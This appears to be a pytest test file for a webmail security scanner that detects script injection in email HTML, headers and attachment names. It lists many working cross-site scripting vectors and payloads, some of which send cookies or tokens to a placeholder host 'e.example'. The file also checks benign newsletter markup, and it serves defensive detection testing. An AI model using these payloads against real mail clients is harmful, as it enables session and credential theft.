"""Scripts against webmail: every vector with every code, beside what editors and newsletters leave in mail."""

from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.mail.html.active import has_hidden_handler, is_acting_markup, is_harmful_code
from gatepost.mail.reader import read

TEXT = "Hello Bob, here are the photos from Sunday that I promised you; the others follow on Monday. " * 3
CODES = [
    "alert(1)",
    "alert`1`",
    "confirm (document.domain)",
    "fetch('//e.example/?c='+document.cookie)",
    "document.body.appendChild(document.createElement('script')).src='//e.example/x'",
    "eval(String.fromCharCode(97,108))",
    "new Function(atob('YQ=='))()",
    "x=new XMLHttpRequest;x.open('GET','/mail');x.send()",
    "navigator.sendBeacon('//e.example', localStorage.token)",
    "top.location='https://e.example/login'",
    "parent.document.forms[0].submit()",
    "import('//e.example/x.js')",
    "[][(![]+[])[+[]]]",
]
VECTORS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<body onload={}>",
    "<div onmouseover={}>x</div>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<a href={javascript}>x</a>",
    "<form action={javascript}><button>x</button></form>",
    "<iframe src={javascript}></iframe>",
    "<svg><animate onbegin={} attributeName=x></svg>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<math><a xlink:href={javascript}>x</a></math>",
]


def kinds(html: str, header: str = "") -> set[str]:
    head = f"From: a@b.example\r\n{header}Content-Type: text/html; charset=utf-8\r\n\r\n"
    return {defect.kind for defect in read(f"{head}<p>{TEXT}</p>{html}".encode()).defects}


@pytest.mark.parametrize("code", CODES)
@pytest.mark.parametrize("vector", VECTORS)
def test_every_vector_with_every_code(vector: str, code: str) -> None:
    plain = "<script" in vector or "srcdoc" in vector
    written = code.replace("'", '"') if "srcdoc" in vector else code if plain else f'"{escape(code)}"'
    html = vector.replace("{javascript}", f'"javascript:{escape(code)}"').replace("{}", written)
    assert "html:webmail-attack" in kinds(html)


@pytest.mark.parametrize(
    "html",
    [
        "<a href='java\tscript:x()'>x</a>",
        "<a href='jav&#10;ascript:x()'>x</a>",
        "<a href='&#1;dat&#10;a:text/html,x'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,<script>x()</script>'>x</a>",
        "<object data='data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4='></object>",
        "<div style='width: expression(x())'>x</div>",
        "<div style='-moz-binding: url(//e.example/x.xml)'>x</div>",
        "<link rel=import href=//e.example/x.html>",
        "<svg onload=x()></svg>",
        "<svg><script>x()</script></svg>",
        "<img src=x onerror=go()>",
        "<marquee onstart=go()>x</marquee>",
        '<img src="foo" alt="``onerror=alert(30)">',
        "<img+src=#+onMouseover=alert(document.cookie)+/>",
        "<video poster=javascript:alert(1)//",
    ],
)
def test_vectors_that_need_no_harmful_code(html: str) -> None:
    assert "html:webmail-attack" in kinds(html)


def test_a_mail_that_is_hardly_more_than_a_script() -> None:
    raw = b"From: a@b.example\r\nContent-Type: text/html\r\n\r\nHi<script src=//e.example/x.js></script>"
    assert "html:webmail-attack" in {defect.kind for defect in read(raw).defects}
    assert "html:webmail-attack" not in kinds("<script src=//ads.example/x.js></script>")


@pytest.mark.parametrize(
    "header",
    [
        "Subject: <img src=a onerror=alert(1)>\r\n",
        'Subject: x" onfocus="go()" autofocus="\r\n',
        "Subject: </textarea><script src=//e.example></script>\r\n",
        "Subject: =?utf-8?q?=3Csvg_onload=3Dgo()=3E?=\r\n",
        "Subject: &#60;script&#62;go()&#60;/script&#62;\r\n",
    ],
)
def test_markup_in_the_header(header: str) -> None:
    assert {"html:in-header", "html:webmail-attack"} <= kinds("", header)


def test_markup_in_the_name_of_a_file() -> None:
    part = '--b\r\nContent-Type: image/png; name="<svg onload=go()>.png"\r\n\r\nx\r\n--b--\r\n'
    raw = f"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{part}"
    assert "html:webmail-attack" in {defect.kind for defect in read(raw.encode()).defects}


@pytest.mark.parametrize(
    "html",
    [
        "<script>function openPopup(u) { w = window.open(u); w.focus(); }</script>",
        "<script src='https://ads.example/wrapper.js'></script>",
        "<td onmouseover='hover(this, 1)' onmouseout='hover(this, 0)'>x</td>",
        "<a href='#' onclick='return top.js.OpenExtLink(window,event,this)'>x</a>",
        "<a href='https://a.example' onclick='window.open(this.href);return false;'>x</a>",
        "<a href=\"javascript:siteSearch('Gov. Romney');\">x</a>",
        "<a href='javascript:void(0)'>x</a>",
        "<body onload='window.focus();'>",
        "<img src='https://a.example/x.gif' onerror=\"this.style.display='none'\">",
        "<img src='https://a.example/x.gif' onerror='this.onerror=null;this.src=&quot;y.gif&quot;'>",
        "<select onchange='location.href=this.options[selectedIndex].value'></select>",
        "<v:shape style='behavior:url(#default#VML)'></v:shape>",
        "<pre>&lt;script&gt;alert(1)&lt;/script&gt; is how the attack looks.</pre>",
        "<p>&lt;img src=x onerror=alert(document.cookie)&gt;</p>",
        "<script type='application/ld+json'>{\"alert(1)\": 1}</script>",
        "<img src='data:image/png;base64,iVBORw0KGgo='>",
    ],
)
def test_leftovers_of_editors_and_newsletters(html: str) -> None:
    assert "html:webmail-attack" not in kinds(html)


@pytest.mark.parametrize("subject", ["How to use <form> and <img>?", "a < b && c > d", "script: second draft"])
def test_ordinary_subjects(subject: str) -> None:
    assert "html:webmail-attack" not in kinds("", f"Subject: {subject}\r\n")


def test_attached_pages_are_not_opened_by_webmail() -> None:
    part = '--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="a.html"\r\n\r\n'
    raw = f"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{part}<script>alert(1)</script>\r\n"
    found = {defect.kind for defect in read(raw.encode()).defects}
    assert ("html:script" in found, "html:webmail-attack" in found) == (True, False)


@pytest.mark.parametrize("piece", ["<a ", "<", "on=", "<a onx=", "alert ", "document . ", " ", "new "])
def test_giant_texts(piece: str) -> None:
    text = piece * (1_000_000 // len(piece))
    assert (is_harmful_code(text), has_hidden_handler(text)) == (False, False)


@given(st.text())
def test_any_text(text: str) -> None:
    for look in (is_harmful_code, has_hidden_handler, is_acting_markup):
        assert look(text) in (True, False)
